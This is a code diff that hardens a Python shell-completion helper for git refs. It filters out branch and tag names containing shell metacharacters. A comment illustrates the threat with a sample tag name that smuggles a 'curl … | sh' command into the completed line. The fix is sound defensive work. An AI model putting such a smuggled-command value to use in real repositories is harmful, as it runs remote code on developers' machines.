@@ -4,6 +4,7 @@ completion never fails: outside a repository it offers nothing."""
 
 from __future__ import annotations
 
+import re
 from pathlib import Path
 
 import typer
@@ -18,8 +19,15 @@ def _cwd(ctx: typer.Context) -> Path:
     return Path(directory) if directory else Path(".")
 
 
+# What a completion may offer. The shell puts the word into the command line as it is (bash
+# does not quote it), and git allows `;`, `$(`, `` ` ``, `|`, `&` in ref names: a fetched tag
+# `acme-v1;$(curl x|sh)` would run when the completed line is entered. Names with any other
+# character are left out; they can still be typed, quoted.
+SAFE_NAME = re.compile(r"[A-Za-z0-9._/+=@,-]+")
+
+
 def _starting(names: list[str], incomplete: str) -> list[str]:
-    return [n for n in names if n.startswith(incomplete)]
+    return [n for n in names if n.startswith(incomplete) and SAFE_NAME.fullmatch(n)]
 
 
 def branches(ctx: typer.Context, incomplete: str) -> list[str]:
